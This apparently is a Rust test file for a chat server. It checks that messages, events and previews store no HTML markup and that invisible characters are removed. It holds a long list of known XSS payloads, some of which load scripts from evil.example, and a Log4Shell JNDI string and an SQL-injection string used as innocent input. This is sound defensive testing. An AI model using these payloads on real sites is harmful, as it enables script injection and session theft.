//! What people write is text: an independent HTML parser finds nothing else in it, wherever the
//! server shows it.

use html5ever::{ParseOpts, parse_document, tendril::TendrilSink};
use markup5ever_rcdom::{Handle, NodeData, RcDom};
use serde_json::json;
use test_support::Person;
use unicode_normalization::UnicodeNormalization;

use crate::{
    market::Market,
    talk::{Talk, of},
};

/// From the lists of OWASP and `PortSwigger`, and from what tokenizers stumble over.
const VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<SCRIPT>alert(1);//<</SCRIPT>",
    "<script/src=data:,alert(1)>",
    "<script\n>alert(1)</script\n>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script>alert(1)<!--",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\"\\>",
    "<IMG SRC=`javascript:alert(1)`>",
    "<IMG SRC=# onmouseover=\"alert(1)\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<img/src/onerror=alert(1)>",
    "<img src onerror /\" '\"= alt=alert(1)//\">",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&lpar;1&rpar;</script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>click</text></a>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<body onload=alert(1)>",
    "<BODY BACKGROUND=\"javascript:alert(1)\">",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<embed src=javascript:alert(1)>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<style>@import'https://evil.example/xss.css';</style>",
    "<style><img src=\"</style><img src=x onerror=alert(1)//\">",
    "<div style=\"width: expression(alert(1))\">x</div>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\"jav&#x0A;ascript:alert(1)\">click</a>",
    "<a href=\" &#14; javascript:alert(1)\">click</a>",
    "<form><button formaction=javascript:alert(1)>x",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<table background=\"javascript:alert(1)\"><td>x</td></table>",
    "<xss style=\"behavior: url(xss.htc);\">",
    "<x onclick=alert(1)>click",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<title><img title=\"</title><img src=x onerror=alert(1)//\">",
    "<template><script>alert(1)</script></template>",
    "<plaintext>everything after",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<! foo=\"><script>alert(1)</script>\">",
    "<? foo=\"><script>alert(1)</script>\">",
    "</ foo=\"><script>alert(1)</script>\">",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "\u{212A}<\u{0}script>alert(1)</script>",
    "<s\u{0}cript>alert(1)</s\u{0}cript>",
    "<\u{202E}img src=x onerror=alert(1)>",
    "<i\u{7f}mg src=x onerror=alert(1)>",
    "<%<!--'%><script>alert(1);</script -->",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "javascript:/*--></title></style></textarea></script></xmp>\
     <svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<p/x=\"'\"><b\u{301}>x</b>",
    "<b>unfinished",
    "</b",
    "<a title=\"unfinished",
    "<!-- unfinished",
];

/// What people write who do not want to attack anybody.
const INNOCENT: &[&str] = &[
    "M8 < M10 && \"5 > 3\"",
    "1 <= 2 <> 3 >= 2",
    "a<-b, x<1, <3",
    "&lt;b&gt; &amp; &#60;script&#62;",
    "It's \"quoted\" \\ back\\slash\\ %3Cscript%3E",
    "Zwei Zeilen\nund ein\tTabulator",
    "日本語 العربية עברית ไทย 👩‍👩‍👧‍👦 e\u{301}tude",
    "'; drop table users; --",
    "${jndi:ldap://evil.example/a} {{7*7}} %s %n",
];

/// Whether anything but text is found.
fn holds_markup(text: &str) -> bool {
    fn is_odd(node: &Handle) -> bool {
        let here = match &node.data {
            // The parser makes these three of nothing.
            NodeData::Element { name, attrs, .. } => {
                !matches!(&*name.local, "html" | "head" | "body") || !attrs.borrow().is_empty()
            }
            NodeData::Document | NodeData::Text { .. } => false,
            _ => true,
        };
        here || node.children.borrow().iter().any(is_odd)
    }
    let dom = parse_document(RcDom::default(), ParseOpts::default()).one(text);
    is_odd(&dom.document)
}

/// Every character that people can see.
fn visible(text: &str) -> String {
    let is_override = |c: &char| matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}');
    let kept = text.chars().filter(|c| !c.is_control() && !is_override(c));
    kept.nfc().filter(|c| !c.is_whitespace()).collect()
}

async fn send(person: &Person, conversation: &str, content: &str) -> Option<String> {
    let body = json!({"content": content});
    let sent = person.post(&of(conversation, "/messages"), body).await;
    match sent.status {
        201 => {
            let text = sent.json["message"]["message"].as_str();
            Some(text.expect("a text").to_owned())
        }
        // Nothing was left of it.
        400 => {
            assert!(
                sent.json["fields"]["content"].is_string(),
                "{:#}",
                sent.json
            );
            None
        }
        other => panic!("{other}: {:#}", sent.json),
    }
}

#[tokio::test]
async fn no_published_attack_survives_in_a_message_an_event_or_a_preview() {
    // All but the unfinished and the hidden ones, so the judge sees what it should.
    let seen = VECTORS.iter().filter(|vector| holds_markup(vector)).count();
    assert!(seen > VECTORS.len() * 4 / 5, "{seen} of {}", VECTORS.len());
    let market = Market::open().await;
    let [anna, sofia] = market.people(["anna", "sofia"]);
    let conversation = market.steel().await;
    let mut screen = sofia.online().await;
    // So far into the text that the preview cuts it somewhere.
    let long = |vector: &str| format!("{}{vector}{}", "x ".repeat(95), " and so on".repeat(30));
    let plain = VECTORS.iter().map(ToString::to_string);
    let attacks = plain.chain(VECTORS.iter().map(|vector| long(vector)));
    for attack in attacks {
        let stored = send(&anna, &conversation, &attack).await;
        let stored = stored.expect("every attack is a text too");
        assert_eq!(
            visible(&stored),
            visible(&attack),
            "something was taken out"
        );
        assert!(
            !holds_markup(&stored),
            "{attack:?} was stored as {stored:?}"
        );
        let event = screen.until("message").await.pop().expect("the event");
        assert_eq!(event.payload["message"]["message"], *stored);
        let card = sofia.look_at(&conversation).await;
        let preview = card["lastMessage"].as_str().expect("a preview");
        assert!(
            !holds_markup(preview),
            "{attack:?} is previewed as {preview:?}"
        );
        // What was cleaned once is clean.
        assert_eq!(send(&anna, &conversation, &stored).await, Some(stored));
        screen.until("message").await;
    }
    for message in sofia.history(&conversation).await {
        let text = message["message"].as_str().expect("a text");
        assert!(!holds_markup(text), "{text:?}");
    }
}

#[tokio::test]
async fn what_people_mean_arrives_as_they_wrote_it() {
    let market = Market::open().await;
    let [anna, sofia] = market.people(["anna", "sofia"]);
    let conversation = market.steel().await;
    let mut screen = sofia.online().await;
    let mut arrived = Vec::new();
    for text in INNOCENT {
        let stored = send(&anna, &conversation, text)
            .await
            .expect("it is stored");
        let event = screen.until("message").await.pop().expect("the event");
        assert_eq!(event.payload["message"]["message"], *stored);
        arrived.push(stored);
    }
    let history = sofia.history(&conversation).await;
    let history: Vec<_> = history
        .iter()
        .filter_map(|m| m["message"].as_str())
        .collect();
    assert_eq!(history, arrived);
    // One is written in two ways, and arrives in the shorter one.
    let composed = |text: &&str| text.replace("e\u{301}", "\u{e9}");
    let expected: Vec<_> = INNOCENT.iter().map(composed).collect();
    assert_eq!(arrived, expected);
}

#[tokio::test]
async fn invisible_characters_are_removed_and_nothing_is_not_a_message() {
    let market = Market::open().await;
    let anna = market.person("anna");
    let conversation = market.steel().await;
    for (sent, stored) in [
        ("a\u{0}b\u{1}c\u{1b}d\u{7f}e\u{85}f", "abcdef"),
        ("safe\u{202E}gpj.exe\u{202C}", "safegpj.exe"),
        ("\u{2066}x\u{2069} y\u{202A}", "x y"),
        ("  \r\n one\r\ntwo\rthree \t ", "one\ntwo\nthree"),
        ("o\u{308}", "\u{f6}"),
    ] {
        assert_eq!(
            send(&anna, &conversation, sent).await.as_deref(),
            Some(stored)
        );
    }
    for nothing in ["", " \n\t ", "\u{0}\u{202E}", "\u{2066}\u{2069}"] {
        assert_eq!(
            send(&anna, &conversation, nothing).await,
            None,
            "{nothing:?}"
        );
    }
    let (most, more) = ("ö".repeat(10_000), "ö".repeat(10_001));
    assert_eq!(send(&anna, &conversation, &most).await, Some(most));
    assert_eq!(send(&anna, &conversation, &more).await, None);
}
